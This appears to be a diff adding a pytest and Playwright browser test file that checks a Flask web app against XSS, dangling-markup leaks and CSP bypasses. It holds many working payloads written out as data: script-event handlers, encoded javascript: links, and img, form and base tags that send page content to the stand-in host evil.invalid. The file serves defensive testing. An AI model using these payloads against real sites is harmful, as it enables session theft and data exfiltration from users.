@@ -1,0 +1,365 @@
+"""A hostile reviewer's XSS and CSP checks in a real Chromium, beyond test_xss_browser.
+
+Covered here: text an anonymous attacker plants for an admin to read (CSP reports in the
+audit log, a user agent, an upload's file name, a username that bypassed validation, filter
+and search queries, flash messages, error pages 400/404/405/413); dangling and unbalanced
+markup that would swallow the rest of a page or carry it off in a URL, and Markdown table
+alignment kept without an inline style; each CSP directive enforced in the browser,
+including a nonce replayed from an earlier response and an injected ``<base>``; and the
+anonymous page store never serving a body that holds a CSP nonce.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+
+from tests.browser.test_xss_browser import DOM_CHECK
+from tests.content.xss_payloads import PAYLOADS, SET
+
+pytestmark = pytest.mark.browser
+
+EVIL = "evil.invalid"
+# Records every violation the page itself sees (an init script runs outside the page's CSP).
+CSP_LISTENER = """
+window.__csp = [];
+document.addEventListener('securitypolicyviolation',
+  e => window.__csp.push(e.effectiveDirective), true);
+"""
+# Markup left open so that, unescaped, it swallows the page after it (<plaintext>, <textarea>,
+# comments) or sends it off in a URL (dangling markup); plus encoded script schemes.
+DANGLING = [
+    f"<img src='http://{EVIL}/leak?",
+    f'<img src="http://{EVIL}/leak?',
+    f"<a href='http://{EVIL}/leak?",
+    f"<form action='http://{EVIL}/'><button>",
+    f"<link rel=stylesheet href='http://{EVIL}/x.css'>",
+    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
+    f"<base href='http://{EVIL}/'>",
+    "<plaintext>", "<textarea>", "<!--", "<style>", "<title>", "<xmp>", "<noembed>",
+    "<noframes>", "<iframe>", "<select>", "<table><tr><td>", "</main></body></html>",
+    "<svg><style>", "<math><style>", "<input value='", '"', "'",
+    f"`<img src='http://{EVIL}/leak?`",
+    f"```\n<img src='http://{EVIL}/leak?\n```",
+    f"![x](http://{EVIL}/leak?",
+    f"[x](http://{EVIL}/leak?a=",
+    f"![a<img src='http://{EVIL}/leak?](/uploads/0123456789abcdef0123456789abcdef)",
+    f"| a | b |\n|---|---|\n| <img src='http://{EVIL}/leak? | ![x](http://{EVIL}/i.png) |",
+    f"[x](&#x6A;avascript:{SET})",
+    f"[x](&#0000106avascript:{SET})",
+    f"[x](javascript&colon;{SET})",
+    f"[x](java&#x0A;script:{SET})",
+    f"[x](java&Tab;script:{SET})",
+    "[x](vbscript&#58;msgbox(1))",
+    "[x](data&colon;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    f"[x][r]\n\n[r]: &#106;avascript:{SET}",
+]
+# GFM column alignment, which must survive sanitising without an inline style.
+ALIGNED = "| left | centre | right |\n|:-----|:------:|------:|\n| l | c | r |"
+# After every page: the page ends where the layout ends, and no URL holds swallowed markup.
+INTACT_CHECK = """() => {
+  const bad = [];
+  const footer = document.querySelector('footer.site-footer a[href="/.well-known/security.txt"]');
+  if (!footer || !footer.checkVisibility()) bad.push('footer swallowed');
+  if (document.querySelectorAll('main').length !== 1) bad.push('main element count');
+  if (!document.title.endsWith(' \\u00b7 Bastion')) bad.push('title broken: ' + document.title);
+  for (const el of document.querySelectorAll('[href], [src], [action], [formaction]')) {
+    for (const name of ['href', 'src', 'action', 'formaction']) {
+      const v = el.getAttribute(name);
+      if (v !== null && /[<>\\n]/.test(v)) bad.push(el.tagName + ' ' + name + '=' + v.slice(0, 60));
+    }
+  }
+  // What a click would really open, after the browser's own URL parsing.
+  for (const a of document.links) {
+    if (!['http:', 'https:', 'mailto:'].includes(a.protocol)) bad.push('link to ' + a.protocol);
+  }
+  return bad;
+}"""
+
+
+def _nonce(response: Any) -> str:
+    match = re.search(r"'nonce-([^']+)'", response.headers["content-security-policy"])
+    assert match, response.headers["content-security-policy"]
+    return match.group(1)
+
+
+def _problems(pg: Any, url: str, status: int = 200) -> list[str]:
+    resp = pg.goto(url)
+    assert resp is not None and resp.status == status, (url, resp and resp.status)
+    pg.wait_for_timeout(100)  # let failed images fire their (stripped) onerror handlers
+    found = pg.evaluate(DOM_CHECK) + pg.evaluate(INTACT_CHECK)
+    return [f"{url}: {problem}" for problem in found]
+
+
+def _sign_in_with_2fa(pg: Any, base: str, username: str) -> None:
+    import pyotp
+
+    from tests.factories import PASSWORD, TOTP_SECRET
+
+    pg.goto(f"{base}/auth/login")
+    pg.fill("#username", username)
+    pg.fill("#password", PASSWORD)
+    pg.click("button[type=submit]")
+    pg.wait_for_load_state()
+    pg.fill("#code", pyotp.TOTP(TOTP_SECRET).now())
+    pg.click("button[type=submit]")
+    pg.wait_for_load_state()
+    assert pg.locator("text=Sign out").count() == 1
+
+
+@pytest.mark.asvs("V1.2.1", "V1.3.1", "V1.3.5", "V3.4.3")
+def test_dangling_markup_neither_swallows_nor_leaks_the_page(live_server, page) -> None:  # type: ignore[no-untyped-def]
+    from bastion.content import services as content
+    from bastion.extensions import db
+    from tests.factories import UserFactory
+
+    live = live_server()
+    with live.app.app_context():
+        author = UserFactory(role_name="editor", username="dangler",
+                             display_name="<plaintext><img src='http://evil.invalid/?")
+        article = content.create_article(
+            author, title="<plaintext><textarea><!--<img src='http://evil.invalid/?",
+            body="\n\n".join([*DANGLING, ALIGNED]), publish=True,
+        )
+        for n, payload in enumerate(DANGLING):
+            reader = UserFactory(username=f"dm{n}", display_name=payload[:80], bio=payload)
+            content.add_comment(reader, article, payload)
+        author.bio = "\n\n".join(DANGLING)
+        db.session.commit()
+        article_id = article.id
+    pg, watch = page
+    leaks: list[str] = []
+    pg.on("request", lambda r: leaks.append(r.url) if EVIL in r.url else None)
+    base = live.url
+    problems: list[str] = []
+    for url in (f"{base}/articles/{article_id}", f"{base}/u/dangler", f"{base}/u/dm0",
+                f"{base}/u/dm7", f"{base}/articles", f"{base}/"):
+        problems += _problems(pg, url)
+    # The comment list survived the article body: every comment is its own item.
+    pg.goto(f"{base}/articles/{article_id}")
+    assert pg.locator("li.card[id^=comment-]").count() == len(DANGLING)
+    aligned = pg.locator(".prose table").last.locator("td")
+    assert [aligned.nth(n).evaluate("td => getComputedStyle(td).textAlign") for n in range(3)] == [
+        "left", "center", "right"]
+    assert watch.csp_violations == []
+    assert not problems, "\n".join(problems[:30])
+    assert leaks == []
+    assert pg.evaluate("window.__xss") is None
+    assert watch.dialogs == []
+
+
+@pytest.mark.asvs("V1.2.1", "V1.2.3", "V3.4.3", "V16.5.1")
+def test_text_an_attacker_plants_for_admins_stays_text(live_server, page) -> None:  # type: ignore[no-untyped-def]
+    from sqlalchemy import select
+
+    from bastion.content import services as content
+    from bastion.extensions import db
+    from bastion.models import Upload
+    from tests.factories import PASSWORD, ArticleFactory, UserFactory
+    from tests.support.auth import AuthActions
+    from tests.uploads import corpus
+    from tests.uploads.conftest import post_file
+
+    live = live_server()
+    # Usernames are validated to [a-z0-9_-]; this one skips the validator, as a future
+    # import or a relaxed rule might, to prove the templates do not rely on it.
+    bad_name = "<svg onload=window.__xss=1>"
+    upload_name = f"\"><img src=x onerror={SET}>.png"
+    with live.app.app_context():
+        admin = UserFactory(role_name="admin", username="boss")
+        odd = UserFactory(username=bad_name)
+        editor = UserFactory(role_name="editor", display_name=PAYLOADS[9][:80])
+        article = ArticleFactory(author=editor, title=PAYLOADS[6])
+        content.add_comment(odd, article, PAYLOADS[10])  # a byline with that username
+        client = live.app.test_client()
+        AuthActions(client).login(editor.username, PASSWORD)
+        resp = post_file(client, f"/articles/{article.id}/images", corpus.png())
+        assert resp.status_code == 302
+        # A browser sends '"' in a file name as %22; stored raw, as another client could.
+        upload = db.session.scalars(select(Upload)).one()
+        upload.original_name = upload_name
+        db.session.commit()
+        article_id, admin_name = article.id, admin.username
+    pg, watch = page
+    base = live.url
+    # Anonymous: CSP reports land in the audit trail (one row per address and minute).
+    pg.goto(f"{base}/")
+    report = {
+        "blocked-uri": f"http://{EVIL}/</code><script>{SET}</script>",
+        "document-uri": f"{base}/<img src=x onerror={SET}>",
+        "violated-directive": f"</code><script>{SET}</script>",
+        "effective-directive": f"<img src=x onerror={SET}>",
+        "disposition": "\u2028</script><script>alert(1)</script><!--",
+        "source-file": f"javascript:{SET}",
+        "line-number": "<svg onload=alert(1)>",
+    }
+    status = pg.evaluate(
+        """r => fetch('/csp-report', {method: 'POST', body: JSON.stringify({'csp-report': r}),
+                 headers: {'Content-Type': 'application/csp-report'}}).then(x => x.status)""",
+        report,
+    )
+    assert status == 204
+    # The admin's own session row keeps the user agent it signed in with.
+    pg.set_extra_http_headers({"User-Agent": f"</td><img src=x onerror={SET}>"})
+    _sign_in_with_2fa(pg, base, admin_name)
+    q = quote(PAYLOADS[8])
+    problems: list[str] = []
+    for url in (
+        f"{base}/admin/audit?event=csp.report",
+        f"{base}/admin/audit?event={q}&user={q}&since={q}",
+        f"{base}/admin/users",
+        f"{base}/admin/users?q={q}",
+        f"{base}/admin/security",
+        f"{base}/account",
+        f"{base}/articles/{article_id}",
+        f"{base}/articles/{article_id}/images",
+    ):
+        problems += _problems(pg, url, status=400 if "since=" in url else 200)
+    # Error pages, with the payload in the path and the query.
+    for url, status in ((f"{base}/u/{quote(bad_name)}", 404), (f"{base}/nope/{q}?{q}", 404),
+                        (f"{base}/auth/logout?next={q}", 405)):
+        problems += _problems(pg, url, status=status)
+    with pg.expect_navigation() as too_large:  # 413: a form body over MAX_CONTENT_LENGTH
+        pg.evaluate("""q => {
+          const f = document.createElement('form');
+          f.method = 'post';
+          f.action = '/auth/logout?next=' + q;
+          const t = document.createElement('textarea');
+          t.name = 'x';
+          t.value = 'a'.repeat(1100000) + q;
+          f.appendChild(t);
+          document.body.appendChild(f);
+          f.submit();
+        }""", q)
+    assert too_large.value.status == 413
+    problems += [f"413: {p}" for p in pg.evaluate(DOM_CHECK) + pg.evaluate(INTACT_CHECK)]
+    # The planted text reached the pages, shown as the text it is.
+    pg.goto(f"{base}/admin/audit?event=csp.report")
+    # (tojson writes <, >, & and ' as \\u escapes, and any non-ASCII too: no bidi tricks.)
+    assert "\\u003c/code\\u003e\\u003cscript\\u003e" in pg.locator("table").inner_text()
+    pg.goto(f"{base}/articles/{article_id}/images")
+    assert pg.locator("td img").first.get_attribute("alt") == upload_name
+    # An admin action flashes the username back.
+    pg.goto(f"{base}/admin/users?q=svg")
+    pg.get_by_role("button", name=f"Disable {bad_name}").click()
+    pg.wait_for_load_state()
+    assert bad_name in pg.locator(".flashes").inner_text()
+    problems += [f"flash: {p}" for p in pg.evaluate(DOM_CHECK)]
+    assert not problems, "\n".join(problems[:30])
+    assert pg.evaluate("window.__xss") is None
+    assert watch.dialogs == []
+
+
+@pytest.mark.asvs("V3.4.3")
+def test_csp_blocks_each_injection_and_a_replayed_nonce(live_server, page) -> None:  # type: ignore[no-untyped-def]
+    from tests.factories import ArticleFactory
+
+    live = live_server()
+    with live.app.app_context():
+        article_id = ArticleFactory().id
+    pg, watch = page
+    pg.add_init_script(CSP_LISTENER)
+    url = f"{live.url}/articles/{article_id}"
+    earlier = _nonce(pg.goto(url))
+    current = _nonce(pg.goto(url))
+    assert earlier != current
+    # As if markup had slipped past escaping: each element tests one directive.
+    result = pg.evaluate(
+        """([earlier, current, evil]) => {
+          const prose = document.querySelector('.prose');
+          const add = (html) => prose.insertAdjacentHTML('beforeend', html);
+          const base = document.createElement('base');
+          base.href = 'http://' + evil + '/';
+          document.head.prepend(base);
+          const script = (nonce, code) => {
+            const s = document.createElement('script');
+            s.setAttribute('nonce', nonce);
+            s.textContent = code;
+            document.body.appendChild(s);
+          };
+          script(earlier, 'window.__xss = "replayed nonce"');
+          script('', 'window.__xss = "no nonce"');
+          script(current, 'window.__fresh = 1');  // control: the real nonce does run
+          const remote = document.createElement('script');
+          remote.src = 'http://' + evil + '/x.js';
+          document.body.appendChild(remote);
+          add('<p id="styled" style="color: rgb(1, 2, 3)">x</p>');
+          const css = document.createElement('style');
+          css.setAttribute('nonce', earlier);
+          css.textContent = '#main { color: rgb(4, 5, 6) }';
+          document.head.appendChild(css);
+          add('<iframe src="/"></iframe>');
+          add('<object data="/static/favicon.svg" type="image/svg+xml"></object>');
+          add('<img src="http://' + evil + '/leak?">');
+          add('<form id="exfil" action="http://' + evil + '/" method="post">' +
+              '<input name="x" value="y"></form>');
+          const link = document.createElement('a');
+          link.href = 'relative';
+          return {base: document.baseURI, link: link.href};
+        }""",
+        [earlier, current, EVIL],
+    )
+    pg.evaluate("document.getElementById('exfil').requestSubmit()")
+    pg.wait_for_timeout(500)
+    assert pg.url == url  # the form did not leave the site
+    assert result["base"] == url and result["link"].startswith(live.url + "/")
+    assert pg.evaluate("window.__xss") is None
+    assert pg.evaluate("window.__fresh") == 1
+    assert pg.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(1, 2, 3)"
+    assert pg.evaluate("getComputedStyle(document.getElementById('main')).color") != "rgb(4, 5, 6)"
+    seen = set(pg.evaluate("window.__csp"))
+    expected = {"base-uri", "script-src-elem", "style-src-attr", "style-src-elem", "frame-src",
+                "object-src", "img-src", "form-action"}
+    assert expected <= seen, f"not blocked: {expected - seen}"
+    assert watch.dialogs == []
+
+
+@pytest.mark.asvs("V3.4.3", "V14.2.2")
+def test_stored_public_pages_never_carry_a_nonce(make_app, page) -> None:  # type: ignore[no-untyped-def]
+    from flask import render_template_string
+
+    from bastion.pagecache import cached_public_page
+    from bastion.security.access import public
+    from tests.factories import ArticleFactory, UserFactory
+    from tests.support.browser import serve
+
+    app = make_app(PUBLIC_PAGE_CACHE_SECONDS=60, TRUSTED_HOSTS=["127.0.0.1", "localhost"])
+
+    # A public page that grows an inline script, as a future template might.
+    @app.get("/nonce-probe")
+    @public
+    @cached_public_page
+    def nonce_probe() -> str:
+        return render_template_string(
+            "<!doctype html><title>p</title>"
+            "<script nonce='{{ csp_nonce() }}'>window.__ran = 1</script>"
+        )
+
+    with app.app_context():
+        author = UserFactory(role_name="editor", username="cached")
+        article_id = ArticleFactory(author=author).id
+    live = serve(app)
+    try:
+        pg, watch = page
+        nonces: list[str] = []
+        for path in ("/", f"/articles/{article_id}", "/u/cached"):
+            etags = set()
+            for _ in range(2):  # the second is revalidated: 304, the stored body reused
+                resp = pg.goto(live.url + path)
+                etags.add(resp.headers["etag"])
+                nonces.append(_nonce(resp))
+                assert "nonce" not in resp.text(), path
+            assert len(etags) == 1, path
+        for _ in range(2):
+            resp = pg.goto(live.url + "/nonce-probe")
+            nonce = _nonce(resp)
+            nonces.append(nonce)
+            assert f"nonce='{nonce}'" in resp.text()
+            assert pg.evaluate("window.__ran") == 1, "a stored copy replayed an old nonce"
+        assert len(set(nonces)) == len(nonces)
+        assert watch.csp_violations == []
+    finally:
+        live.stop()
